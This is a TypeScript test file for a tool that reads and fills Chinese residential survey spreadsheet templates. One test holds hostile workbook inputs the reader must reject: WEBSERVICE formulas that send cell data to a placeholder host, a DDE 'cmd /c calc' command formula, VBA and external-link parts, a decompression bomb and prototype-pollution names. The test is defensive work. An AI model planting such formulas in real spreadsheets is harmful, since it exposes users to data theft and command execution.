import assert from 'node:assert/strict';
import { test } from 'node:test';
import { readXlsx, writeXlsx } from 'hucre/xlsx';
import { plainSheet, survey, workbookOf } from '@/db/seed/blank-sheets';
import { unzipped } from '@/tests/sheets';
import { SheetError } from '../limits';
import { fillBlank } from './fill';
import { readBlank } from './layout';
import { taken } from './meaning';
import { BlankError, type Filled, type Filling } from './shape';

const NAMES = ['序号', '楼栋', '单元', '门牌', '业主姓名', '填表日期', '姓名', '电话'];
const known = (name: string) => NAMES.includes(name);
const read = (bytes: Buffer) => readBlank(bytes, known);
const note = { name: '填表说明', lines: ['填了几行。'] };
const filling = (rows: number, columns: Record<number, (n: number) => Filled>): Filling => ({
  rows,
  note,
  columns: Object.entries(columns).map(([at, value]) => ({
    at: Number(at),
    values: Array.from({ length: rows }, (_, n) => value(n)),
  })),
});
const fault = (code: string) => (error: unknown) =>
  (error instanceof BlankError || error instanceof SheetError) && error.code === code;
const SHEET = 'xl/worksheets/sheet1.xml';

test('a heading of two rows is read by its lower names, with what stands above them; the rows under it are the room there is', async () => {
  const layout = await read(survey());
  assert.deepEqual(
    layout.columns.map(({ at, above, name }) => [at, above, name]),
    [
      [0, '', '序号'],
      [1, '', '楼栋'],
      [2, '', '单元'],
      [3, '', '门牌'],
      [4, '业主信息', '姓名'],
      [5, '业主信息', '联系方式'],
      [6, '', '养犬情况'],
      [7, '', '填表日期'],
    ],
  );
  const { columns: _, ...room } = layout;
  assert.deepEqual(room, { sheet: '摸排表', first: 4, last: 6, below: true, grows: true });
});

test('two rows in a sheet of three: all else stands as it stood, byte for byte', async () => {
  const bytes = survey();
  const layout = await read(bytes);
  const one = { 0: (n: number) => n + 1, 1: () => '14', 4: (n: number) => (n === 0 ? '=1+1' : null) };
  const done = fillBlank(bytes, layout, filling(2, one));
  const [before, after] = [unzipped(bytes), unzipped(done)];
  const [old, now] = [before.get(SHEET) ?? '', after.get(SHEET) ?? ''];
  const outside = (xml: string) => [xml.slice(0, xml.indexOf('<sheetData>')), xml.slice(xml.indexOf('</sheetData>'))];
  const quoted = (part: string) => part.replace(/&quot;/g, '"');
  assert.deepEqual(outside(now).map(quoted), outside(old));
  for (const kept of [
    'orientation="landscape"',
    'paperSize="9"',
    'width="6.25"',
    '<mergeCell ref="E2:F2"/>',
    'ht="24"',
  ])
    assert.ok(now.includes(kept), kept);
  assert.match(now, /<row r="7">.*合计.*<f>COUNTA\(E4:E6\)<\/f>/);
  for (const [name, text] of before)
    if (
      ![SHEET, 'xl/styles.xml', 'xl/workbook.xml', 'xl/_rels/workbook.xml.rels', '[Content_Types].xml'].includes(name)
    )
      assert.equal(after.get(name), text, name);
  assert.match(now, /<c r="E4" s="2" t="inlineStr"><is><t xml:space="preserve">=1\+1<\/t><\/is><\/c>/);
  // The third row is left as it was, its number in it.
  assert.match(now, /<c r="A6" s="2"><v>3<\/v><\/c>/);
  const { sheets } = await readXlsx(done, { readStyles: true });
  assert.deepEqual(sheets[0]?.rows[3]?.slice(0, 5), [1, '14', null, null, '=1+1']);
  assert.equal(sheets[0]?.merges?.length, 8);
  assert.equal(sheets[0]?.pageSetup?.orientation, 'landscape');
});

test('what nobody knows is empty on a pale ground, with the border it had; a day has the form of its column', async () => {
  const bytes = survey();
  const done = fillBlank(
    bytes,
    await read(bytes),
    filling(1, { 4: () => '张三', 5: () => null, 7: () => ({ day: '2022-03-05' }) }),
  );
  const { sheets } = await readXlsx(done, { readStyles: true });
  const style = (at: string) => sheets[0]?.cells?.get(at)?.style;
  for (const at of ['3,5', '3,6']) {
    assert.equal(JSON.stringify(style(at)?.fill).includes('FFF4CC'), true, at);
    assert.equal(style(at)?.border?.left?.style, 'thin');
  }
  assert.equal(style('3,4')?.fill, undefined);
  assert.deepEqual(sheets[0]?.rows[3]?.[7], new Date('2022-03-05T00:00:00Z'));
  assert.match(style('3,7')?.numFmt ?? '', /年/);
  assert.deepEqual(sheets[1]?.rows, [['填了几行。']]);
  assert.equal(sheets[1]?.name, '填表说明');
});

test('more rows than there is room: sums go down, add up over all of them, and are printed', async () => {
  const bytes = survey();
  const done = fillBlank(bytes, await read(bytes), filling(40, { 0: (n) => n + 1, 4: (n) => `业主${n + 1}` }));
  const files = unzipped(done);
  const now = files.get(SHEET) ?? '';
  assert.match(now, /<row r="44">.*合计.*<f>COUNTA\(E4:E43\)<\/f><\/c>/);
  assert.match(now, /<row r="46">.*负责人签字/);
  assert.match(now, /<row r="43" ht="24" customHeight="1">/);
  assert.match(now, /sqref="G4:G43"/);
  assert.match(now, /<dimension ref="A1:H46"\/>/);
  assert.match(files.get('xl/workbook.xml') ?? '', /\$A\$1:\$H\$46<.*\$2:\$3</);
  const { sheets } = await readXlsx(done);
  assert.equal(sheets[0]?.rows[42]?.[4], '业主40');
  assert.equal(sheets[0]?.rows[43]?.[0], '合计');
});

test('cells that are one in each row are one in those that are added', async () => {
  const joined = survey((sheet) =>
    sheet.replace('<mergeCells count="8">', '<mergeCells count="9"><mergeCell ref="B4:C4"/>'),
  );
  const now = unzipped(fillBlank(joined, await read(joined), filling(5, { 1: () => '14' }))).get(SHEET) ?? '';
  assert.match(now, /<mergeCells count="11">/);
  assert.ok(now.includes('<mergeCell ref="B7:C7"/><mergeCell ref="B8:C8"/>'));
});

test('what cannot go down stays, and there is no more room than it leaves', async () => {
  const drawn = survey((sheet) => sheet.replace('</headerFooter>', '</headerFooter><drawing r:id="rId9"/>'));
  const layout = await read(drawn);
  assert.deepEqual([layout.grows, layout.last - layout.first + 1], [false, 3]);
  assert.doesNotThrow(() => fillBlank(drawn, layout, filling(3, { 0: (n) => n })));
  assert.throws(() => fillBlank(drawn, layout, filling(4, { 0: (n) => n })), fault('no_more_room'));
});

test('a heading nobody knows is the row with most names; a sheet without a row under it grows', async () => {
  const layout = await read(plainSheet(['报送单位：'], ['甲', '乙', '丙']));
  assert.deepEqual(
    layout.columns.map(({ name }) => name),
    ['甲', '乙', '丙'],
  );
  assert.deepEqual([layout.first, layout.last, layout.below, layout.grows], [3, 3, false, true]);
  const bytes = plainSheet(['序号', '姓名'], ['例', '张某'], ['', ''], ['填表人', '']);
  assert.deepEqual((await read(bytes)).first, 3, 'an example stands between');
  const done = fillBlank(bytes, await read(bytes), filling(3, { 1: (n) => `${n}` }));
  const { sheets } = await readXlsx(done);
  assert.deepEqual(
    sheets[0]?.rows.map((row) => row[1] ?? null),
    ['姓名', '张某', '0', '1', '2', null],
  );
  assert.equal(sheets[0]?.rows[5]?.[0], '填表人');
});

test('one that hucre wrote is read and filled in', async () => {
  const made = await writeXlsx({
    sheets: [
      { name: '说明', rows: [['请填第二页']], hidden: true },
      {
        name: "Owner's list",
        columns: [{ width: 8 }, { width: 30 }],
        rows: [
          ['序号', '姓名'],
          [null, null],
        ],
      },
    ],
  });
  const bytes = Buffer.from(made);
  const layout = await read(bytes);
  assert.deepEqual([layout.sheet, layout.first], ["Owner's list", 2]);
  const { sheets } = await readXlsx(fillBlank(bytes, layout, filling(2, { 0: (n) => n + 1, 1: () => '王' })));
  assert.deepEqual(sheets[1]?.rows, [
    ['序号', '姓名'],
    [1, '王'],
    [2, '王'],
  ]);
});

test('names are told apart by what stands above them; what was said before goes first', () => {
  const fields = {
    owner: { zh: '业主姓名', en: 'owner', also: ['姓名'] },
    resident: { zh: '住户姓名', en: 'resident' },
    phone: { zh: '电话', en: 'phone' },
  };
  const two = [
    { at: 0, above: '业主信息', name: '姓名' },
    { at: 1, above: '住户', name: '姓名' },
    { at: 2, above: '租户情况', name: '姓名' },
    { at: 3, above: '', name: '联络' },
  ];
  assert.deepEqual(taken(two, fields, {}), { 0: 'owner', 1: 'resident' });
  assert.deepEqual(taken(two, fields, { 3: 'phone', 0: '' }), { 1: 'resident', 3: 'phone' });
  assert.deepEqual(taken([{ at: 0, above: '', name: '__proto__' }], fields, {}), {});
  assert.deepEqual(taken([{ at: 0, above: '', name: 'x' }], fields, { 0: '__proto__' }), {});
});

test('attack 8, hostile workbooks: formulas that reach out, links, programs, bombs, damage, and names that are none', async () => {
  const cell = (formula: string) => survey((sheet) => sheet.replace('<f>COUNTA(E4:E6)</f>', `<f>${formula}</f>`));
  for (const formula of [
    'WEBSERVICE(&quot;http://e/&quot;&amp;E4)',
    'HYPERLINK(&quot;http://e/?&quot;&amp;E4,&quot;合计&quot;)',
    '&#87;EBSERVICE(E4)',
    "cmd|' /c calc'!A0",
    '[1]Sheet1!A1',
    '_xlfn.IMAGE(E4)',
  ])
    await assert.rejects(read(cell(formula)), fault('formula'), formula);
  const heading = survey((sheet) =>
    sheet.replace(
      '<c r="B2" s="2" t="inlineStr"><is><t>楼栋</t></is></c>',
      '<c r="B2" s="2" t="str"><f>WEBSERVICE("http://e")</f><v>楼栋</v></c>',
    ),
  );
  await assert.rejects(read(heading), fault('formula'));
  const hidden = survey((sheet) => sheet.replace('<f>COUNTA(E4:E6)</f>', '<f><![CDATA[WEBSERVICE("http://e")]]></f>'));
  await assert.rejects(read(hidden), fault('unusual'));
  await assert.rejects(read(workbookOf({ 'xl/externalLinks/externalLink1.xml': '<externalLink/>' })), fault('outside'));
  await assert.rejects(read(workbookOf({ 'xl/vbaProject.bin': 'x' })), fault('outside'));
  const linked = `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://e/x.png" TargetMode="External"/></Relationships>`;
  await assert.rejects(read(workbookOf({ 'xl/worksheets/_rels/sheet1.xml.rels': linked })), fault('outside'));
  await assert.rejects(read(workbookOf({ 'xl/media/bomb.xml': '0'.repeat(13 * 1024 * 1024) })), fault('too_large'));
  const whole = survey();
  await assert.rejects(read(whole.subarray(0, whole.length - 40)), fault('not_a_sheet'));
  const spoiled = Buffer.from(whole);
  const at = spoiled.indexOf('xl/worksheets/sheet1.xml') + 60;
  spoiled.fill(0xff, at, at + 20);
  await assert.rejects(read(spoiled), fault('not_a_sheet'));
  const proto = await read(plainSheet(['__proto__', 'constructor', '姓名'], ['', '', '']));
  assert.deepEqual(
    proto.columns.map(({ name }) => name),
    ['__proto__', 'constructor', '姓名'],
  );
});

test('where nobody can tell where to write, that is said', async () => {
  await assert.rejects(read(plainSheet(['只有一个标题'])), fault('no_heading'));
  await assert.rejects(read(plainSheet(['序号', '姓名'], ['合计', ''])), fault('no_room'));
  const joined = survey((sheet) =>
    sheet.replace('<mergeCells count="8">', '<mergeCells count="9"><mergeCell ref="B4:B6"/>'),
  );
  await assert.rejects(read(joined), fault('room_joined'));
});
